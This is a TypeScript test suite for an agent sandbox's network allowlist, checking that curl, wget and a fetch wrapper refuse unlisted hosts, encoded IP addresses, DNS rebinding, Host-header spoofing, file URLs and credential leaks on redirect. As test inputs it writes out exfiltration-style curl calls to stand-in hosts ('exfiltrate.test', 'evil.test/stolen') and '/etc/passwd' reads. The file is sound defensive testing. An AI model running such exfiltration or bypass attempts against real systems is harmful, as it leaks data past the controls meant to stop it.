/**
 * The network tiers on the virtual engine: with the allowlist, curl and wget reach exactly the
 * allowed names (a `localhost:PORT` entry, a name the user mapped to an address) through the
 * engine's own fetch, which refuses everything else with the egress proxy's HTTP 403 and records
 * every decision; without it there is no curl at all. Traffic goes only to this test's own server
 * on 127.0.0.1.
 */
import assert from 'node:assert/strict';
import { lookup } from 'node:dns/promises';
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { createSecureContext } from 'node:tls';
import type { Sandbox } from '../../src/core/engine/engine';
import type { NetworkDecision } from '../../src/core/network/egressProxy';
import { resolveSpec } from '../../src/core/spec/resolveSpec';
import type { SpecLayer } from '../../src/core/spec/spec';
import { runNamedTool, type ToolCallContext } from '../../src/core/tools/runTool';
import { allowlistFetch } from '../../src/engines/virtual/allowlistFetch';
import { VirtualEngine } from '../../src/engines/virtual/virtualEngine';
import { toolsOn } from './toolsOn';

interface Seen {
  host: string;
  method: string;
  url: string;
  authorization?: string;
}

const BIG_BYTES = 256 * 1024;
/** A test CA, and a certificate it signed for api.test only (no IP address in it); the CA's key was not kept. */
const TLS = join(__dirname, 'fixtures', 'tls');
const tlsFile = (name: string) => readFileSync(join(TLS, name), 'utf8');

describe('the network allowlist on the virtual engine', function () {
  this.timeout(120_000);
  const engine = new VirtualEngine();
  const seen: Seen[] = [];
  /** The TLS server name (SNI) of every connection to the HTTPS server. */
  const serverNames: string[] = [];
  let server: Server;
  let port: number;
  let tlsServer: Server;
  let tlsPort: number;

  before(async () => {
    server = createServer((request, response) => void answer(request, response));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
    const identity = { key: tlsFile('server.key'), cert: tlsFile('server.crt') };
    const context = createSecureContext(identity);
    tlsServer = createTlsServer(
      {
        ...identity,
        // Asked for every client hello that names a server, before the client checks the certificate.
        SNICallback: (name, done) => {
          serverNames.push(name);
          done(null, context);
        },
      },
      (request, response) => void answer(request, response),
    );
    await new Promise<void>((resolve) => tlsServer.listen(0, '127.0.0.1', resolve));
    tlsPort = (tlsServer.address() as AddressInfo).port;
  });
  after(async () => {
    await engine.dispose();
    for (const each of [server, tlsServer]) {
      each.closeAllConnections();
      await new Promise((resolve) => each.close(resolve));
    }
  });

  async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    seen.push({
      host: request.headers.host ?? '',
      method: request.method ?? '',
      url: request.url ?? '',
      ...(request.headers.authorization ? { authorization: request.headers.authorization } : {}),
    });
    const path = request.url ?? '/';
    if (path === '/to-allowed')
      return void response.writeHead(302, { location: `http://api.test:${port}/hello` }).end();
    if (path === '/to-listed-elsewhere')
      return void response.writeHead(302, { location: `http://evil.test:${port}/stolen` }).end();
    if (path === '/to-other-origin')
      return void response.writeHead(307, { location: `http://other.test:${port}/headers` }).end();
    if (path === '/big') return void response.end(Buffer.alloc(BIG_BYTES, 'x'));
    if (path === '/headers') return void response.end(`authorization: ${request.headers.authorization ?? 'none'}\n`);
    if (request.method === 'POST') return void response.end(`got ${body}\n`);
    response.end(`hello from the test server: ${request.method} ${path}\n`);
  }

  /** The requests the server got while `run` ran. */
  async function during(run: () => Promise<void>): Promise<Seen[]> {
    const before = seen.length;
    await run();
    return seen.slice(before);
  }

  function allowlistSpec(more: SpecLayer = {}) {
    return resolveSpec({
      mode: 'code',
      runtime: 'bash',
      networkAllow: [`localhost:${port}`, 'api.test'],
      // evil.test leads to the test server too, but is not on the allowlist: it must never be reached.
      networkHosts: { 'api.test': '127.0.0.1', 'evil.test': '127.0.0.1' },
      ...more,
    });
  }

  describe('a sandbox with the allowlist', () => {
    let sandbox: Sandbox;
    before(async () => {
      sandbox = await engine.open(allowlistSpec());
    });
    after(async () => {
      await sandbox?.close();
    });

    const run = async (command: string) => sandbox.exec({ command });

    it('says what reaches the network, and that Python has none', () => {
      assert.equal(engine.capabilities.networkAllowlist, true);
      assert.equal(engine.capabilities.network, false);
      const notice = sandbox.info.notices.find((line) => line.startsWith('Network by allowlist'));
      assert.ok(notice, sandbox.info.notices.join('\n'));
      assert.match(notice, new RegExp(`curl and wget reach localhost:${port} \\(port ${port} of this machine\\)`));
      assert.match(notice, /api\.test \(mapped to 127\.0\.0\.1\)/);
      assert.match(notice, /Python has no sockets here/);
      assert.equal(sandbox.info.network, false);
    });

    it('reaches a localhost:PORT entry: the server on this machine', async () => {
      const requests = await during(async () => {
        const result = await run(`curl -s http://localhost:${port}/hello`);
        assert.equal(result.exitCode, 0, result.stderr);
        assert.equal(result.stdout, 'hello from the test server: GET /hello\n');
      });
      assert.deepEqual(
        requests.map((request) => request.host),
        [`localhost:${port}`],
      );
    });

    it('reaches a name the user mapped to 127.0.0.1, which no resolver here knows, with curl and wget', async () => {
      // Reaching it proves the connection went to the checked address: a lookup of its own would fail.
      await assert.rejects(lookup('api.test'));
      const requests = await during(async () => {
        const curl = await run(`curl -s http://api.test:${port}/hello`);
        assert.equal(curl.stdout, 'hello from the test server: GET /hello\n', curl.stderr);
        const post = await run(`curl -s -d 'name=value' http://api.test:${port}/form`);
        assert.equal(post.stdout, 'got name=value\n', post.stderr);
        const wget = await run(
          `wget -qO- http://api.test:${port}/by-wget && wget -q http://api.test:${port}/saved.txt && cat saved.txt`,
        );
        assert.equal(
          wget.stdout,
          'hello from the test server: GET /by-wget\nhello from the test server: GET /saved.txt\n',
          wget.stderr,
        );
      });
      assert.deepEqual(
        requests.map((request) => [request.host, request.method, request.url]),
        [
          [`api.test:${port}`, 'GET', '/hello'],
          [`api.test:${port}`, 'POST', '/form'],
          [`api.test:${port}`, 'GET', '/by-wget'],
          [`api.test:${port}`, 'GET', '/saved.txt'],
        ],
      );
    });

    it('refuses a name not on the list with HTTP 403 naming the reason, and sends nothing', async () => {
      const requests = await during(async () => {
        const curl = await run(`curl -s -w '\\n%{http_code}' http://exfiltrate.test:${port}/?data=secret`);
        assert.match(curl.stdout, /^Agent Sandbox refused this connection: exfiltrate\.test is not on the allowlist\./);
        assert.match(curl.stdout, /agentSandbox\.network\.allow/);
        assert.match(curl.stdout, /\n403$/);
        // A name the user mapped is reached only when it is on the list too.
        const mapped = await run(`curl -s -w '\\n%{http_code}' http://evil.test:${port}/`);
        assert.match(mapped.stdout, /evil\.test is not on the allowlist[^]*\n403$/);
        const failing = await run(`curl -sf http://exfiltrate.test/`);
        assert.equal(failing.exitCode, 22);
        const wget = await run(`wget -q http://exfiltrate.test/`);
        assert.equal(wget.exitCode, 8);
        assert.match(
          wget.stderr,
          /ERROR 403 Forbidden: Agent Sandbox refused this connection: exfiltrate\.test is not/,
        );
        // A local port that is not on the list.
        const otherPort = await run(`curl -s http://localhost:${port + 1}/`);
        assert.match(otherPort.stdout, new RegExp(`port ${port + 1} of your machine is not on the allowlist`));
      });
      assert.deepEqual(requests, []);
    });

    it('refuses raw IP addresses, however they are written', async () => {
      const requests = await during(async () => {
        for (const url of [
          `http://127.0.0.1:${port}/`,
          `http://[::1]:${port}/`,
          `http://2130706433:${port}/`,
          `http://0x7f.1:${port}/`,
        ]) {
          const result = await run(`curl -s -w '\\n%{http_code}' '${url}'`);
          assert.match(result.stdout, /is an IP address; only names on the allowlist are reached[^]*\n403$/, url);
        }
      });
      assert.deepEqual(requests, []);
    });

    it('follows a redirect to an allowed name, and refuses one to a name off the list', async () => {
      const requests = await during(async () => {
        const allowed = await run(`curl -s http://api.test:${port}/to-allowed`);
        assert.equal(allowed.stdout, 'hello from the test server: GET /hello\n', allowed.stderr);
        const refused = await run(
          `curl -s -w '\\n%{http_code} %{url_effective}' http://api.test:${port}/to-listed-elsewhere`,
        );
        assert.match(refused.stdout, /evil\.test is not on the allowlist/);
        assert.match(refused.stdout, new RegExp(`\\n403 http://evil\\.test:${port}/stolen$`));
      });
      assert.deepEqual(
        requests.map((request) => request.url),
        ['/to-allowed', '/hello', '/to-listed-elsewhere'],
      );
    });

    it('speaks TLS to the checked address with the name, and checks the certificate', async () => {
      const names = serverNames.length;
      const requests = await during(async () => {
        // The test CA is not one Node trusts: the certificate check is on, as for any HTTPS site.
        const result = await run(`curl -sS https://api.test:${tlsPort}/hello`);
        assert.notEqual(result.exitCode, 0);
        assert.match(result.stderr, /certificate/i);
      });
      assert.deepEqual(requests, []);
      assert.deepEqual(serverNames.slice(names), ['api.test']);
    });

    it('records every decision, with bytes, readable through the sandbox and the engine', async () => {
      const page = await sandbox.networkDecisions!();
      assert.deepEqual(
        page.decisions.map((entry) => entry.seq),
        page.decisions.map((_, index) => index + 1),
      );
      assert.equal(page.cursor, page.decisions.at(-1)!.seq);
      assert.equal(page.truncated, false);
      const local = page.decisions.find((entry) => entry.host === 'localhost');
      assert.deepEqual(local && { ...local, at: undefined }, {
        seq: 1,
        at: undefined,
        host: 'localhost',
        port,
        allowed: true,
        rule: `localhost:${port}`,
        address: '127.0.0.1',
        bytesSent: 0,
        bytesReceived: 'hello from the test server: GET /hello\n'.length,
      });
      const posted = page.decisions.find((entry) => entry.host === 'api.test' && entry.bytesSent > 0);
      assert.equal(posted?.bytesSent, 'name=value'.length);
      assert.equal(posted?.rule, 'api.test');
      const refused = page.decisions.find((entry) => entry.host === 'exfiltrate.test');
      assert.ok(refused);
      assert.equal(refused.allowed, false);
      assert.equal(refused.reason, 'exfiltrate.test is not on the allowlist');
      assert.equal(refused.bytesSent + refused.bytesReceived, 0);
      assert.ok(page.decisions.some((entry) => !entry.allowed && entry.host === '127.0.0.1'));
      assert.ok(page.decisions.some((entry) => !entry.allowed && entry.host === 'evil.test'));
      assert.deepEqual(await engine.networkDecisions(sandbox.info.id), page);
      // Only what came after a cursor, and the newest when there are more.
      await run('curl -s http://after.test/');
      const later = await sandbox.networkDecisions!({ after: page.cursor });
      assert.deepEqual(
        later.decisions.map((entry) => [entry.seq, entry.host, entry.allowed]),
        [[page.cursor + 1, 'after.test', false]],
      );
      const newest = await engine.networkDecisions(sandbox.info.id, { max: 2 });
      assert.deepEqual(
        newest.decisions.map((entry) => entry.seq),
        [page.cursor, page.cursor + 1],
      );
      assert.equal(newest.truncated, true);
    });

    it('keeps the decisions readable after the sandbox is closed', async () => {
      const id = sandbox.info.id;
      const before = await engine.networkDecisions(id);
      assert.ok(before.decisions.length > 0);
      await sandbox.close();
      assert.deepEqual(await engine.networkDecisions(id), before);
      assert.deepEqual(await sandbox.networkDecisions!(), before);
    });
  });

  describe('the fetch behind curl and wget', () => {
    function fetchWith(more: Partial<Parameters<typeof allowlistFetch>[0]> = {}) {
      const decisions: NetworkDecision[] = [];
      const fetch = allowlistFetch({
        allow: ['api.test', 'other.test', 'rebound.test', 'lost.test'],
        hosts: { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1' },
        maxResponseBytes: 1024 * 1024,
        timeoutMs: 30_000,
        lookup: async (host) => {
          if (host === 'rebound.test') return ['203.0.113.7', '127.0.0.1'];
          throw Object.assign(new Error(`${host} not found`), { code: 'ENOTFOUND' });
        },
        onDecision: (decision) => decisions.push(decision),
        ...more,
      });
      return { fetch, decisions };
    }

    it('refuses a name on the list that resolves to an internal address (DNS rebinding), or to nothing', async () => {
      const { fetch, decisions } = fetchWith();
      const requests = await during(async () => {
        const rebound = await fetch(`http://rebound.test:${port}/`);
        assert.equal(rebound.status, 403);
        assert.match(
          Buffer.from(rebound.body).toString(),
          /rebound\.test resolves to 127\.0\.0\.1, an internal address that the allowlist never reaches/,
        );
        const lost = await fetch(`http://lost.test:${port}/`);
        assert.equal(lost.status, 403);
        assert.match(Buffer.from(lost.body).toString(), /lost\.test could not be resolved/);
      });
      assert.deepEqual(requests, []);
      assert.deepEqual(
        decisions.map((decision) => [decision.host, decision.allowed]),
        [
          ['rebound.test', false],
          ['lost.test', false],
        ],
      );
    });

    it('caps the size of a response', async () => {
      const { fetch, decisions } = fetchWith({ maxResponseBytes: 64 * 1024 });
      await assert.rejects(fetch(`http://api.test:${port}/big`), /larger than 64 KiB/);
      assert.equal(decisions.length, 1);
      assert.ok(decisions[0]!.bytesReceived > 64 * 1024 && decisions[0]!.bytesReceived <= BIG_BYTES);
      const whole = await fetchWith({ maxResponseBytes: BIG_BYTES }).fetch(`http://api.test:${port}/big`);
      assert.equal(whole.body.byteLength, BIG_BYTES);
    });

    it('does not carry credentials to another origin on a redirect', async () => {
      const { fetch } = fetchWith();
      const requests = await during(async () => {
        const answer = await fetch(`http://api.test:${port}/to-other-origin`, {
          headers: { Authorization: 'Bearer secret' },
        });
        assert.equal(Buffer.from(answer.body).toString(), 'authorization: none\n');
      });
      assert.deepEqual(
        requests.map((request) => [request.host, request.authorization ?? 'none']),
        [
          [`api.test:${port}`, 'Bearer secret'],
          [`other.test:${port}`, 'none'],
        ],
      );
    });

    it('sends the host name that was decided, whatever Host header the program gives', async () => {
      const { fetch } = fetchWith();
      const requests = await during(async () => {
        await fetch(`http://api.test:${port}/hello`, { headers: { Host: 'evil.test' } });
      });
      assert.deepEqual(
        requests.map((request) => request.host),
        [`api.test:${port}`],
      );
    });

    it('checks the certificate against the name, not the address it connects to', async () => {
      const { fetch } = fetchWith({ ca: [tlsFile('ca.crt')] });
      const names = serverNames.length;
      const requests = await during(async () => {
        const answer = await fetch(`https://api.test:${tlsPort}/hello`);
        assert.equal(Buffer.from(answer.body).toString(), 'hello from the test server: GET /hello\n');
        // other.test leads to the same server and address, but the certificate is not for it.
        await assert.rejects(fetch(`https://other.test:${tlsPort}/hello`), /altnames/);
      });
      assert.deepEqual(
        requests.map((request) => request.host),
        [`api.test:${tlsPort}`],
      );
      assert.deepEqual(serverNames.slice(names), ['api.test', 'other.test']);
    });

    it('refuses schemes other than http and https', async () => {
      const { fetch, decisions } = fetchWith();
      await assert.rejects(fetch('file:///etc/passwd'), /only http and https/);
      assert.deepEqual(decisions, []);
    });
  });

  describe('the other tiers, as they were', () => {
    it('off: there is no curl or wget, and nothing is recorded', async () => {
      const sandbox = await engine.open(resolveSpec({ mode: 'code', runtime: 'bash' }));
      try {
        const requests = await during(async () => {
          for (const command of [`curl -s http://localhost:${port}/`, `wget -qO- http://localhost:${port}/`]) {
            const result = await sandbox.exec({ command });
            assert.equal(result.exitCode, 127, command);
            assert.match(result.stderr, /command not found/);
          }
        });
        assert.deepEqual(requests, []);
        assert.ok(!sandbox.info.notices.some((line) => /allowlist/.test(line)));
        assert.deepEqual(await sandbox.networkDecisions!(), { decisions: [], cursor: 0, truncated: false });
      } finally {
        await sandbox.close();
      }
    });

    it('full: the whole network is not given; the sandbox runs offline and says so', async () => {
      const sandbox = await engine.open(resolveSpec({ mode: 'code', runtime: 'bash', network: true }));
      try {
        assert.match(sandbox.info.notices.join('\n'), /no network; the sandbox runs offline/);
        const result = await sandbox.exec({ command: `curl -s http://localhost:${port}/` });
        assert.equal(result.exitCode, 127);
      } finally {
        await sandbox.close();
      }
    });
  });

  describe('the tools path: sandbox_open, sandbox_exec and sandbox_run with allow_domains', () => {
    let tool: ToolCallContext;
    before(() => {
      tool = toolsOn(engine, 'agent-sandbox-virtual-network-tools-', {
        engineName: 'virtual',
        settings: {
          network: { mode: 'allowlist', allow: ['api.test', `localhost:${port}`], hosts: { 'api.test': '127.0.0.1' } },
        },
      });
    });
    after(async () => {
      await tool?.service.closeAll().catch(() => undefined);
    });

    it('opens a session that reaches the asked names and reports this call`s decisions', async () => {
      const opened = await runNamedTool('sandbox_open', { runtime: 'bash', allow_domains: ['api.test'] }, tool);
      assert.match(opened, /^network: only api\.test\b/m);
      assert.match(
        opened,
        /Note: Network by allowlist: curl and wget reach api\.test \(mapped to 127\.0\.0\.1\) and nothing else/,
      );
      assert.match(opened, /Python has no sockets here/);
      const requests = await during(async () => {
        const text = await runNamedTool(
          'sandbox_exec',
          { command: `curl -s http://api.test:${port}/hello; curl -s http://localhost:${port}/hello` },
          tool,
        );
        assert.match(text, /hello from the test server: GET \/hello/);
        // localhost:PORT is on the user's list, but this session asked only for api.test.
        assert.match(text, new RegExp(`port ${port} of your machine is not on the allowlist`));
        assert.match(text, new RegExp(`Network: 1 connection through the allowlist \\(api\\.test:${port}\\)`));
        assert.match(
          text,
          new RegExp(
            `Network refused 1 connection: localhost:${port} \\(port ${port} of your machine is not on the allowlist`,
          ),
        );
        const next = await runNamedTool('sandbox_exec', { command: 'echo quiet' }, tool);
        assert.doesNotMatch(next, /Network/);
      });
      assert.deepEqual(
        requests.map((request) => request.host),
        [`api.test:${port}`],
      );
    });

    it('runs a program with sandbox_run that reaches the user`s allowlist', async () => {
      const text = await runNamedTool(
        'sandbox_run',
        { runtime: 'bash', code: `curl -s http://localhost:${port}/from-run; curl -s http://nowhere.test/` },
        tool,
      );
      assert.match(text, /hello from the test server: GET \/from-run/);
      assert.match(text, /Network refused 1 connection: nowhere\.test:80 \(nowhere\.test is not on the allowlist\)/);
    });
  });
});
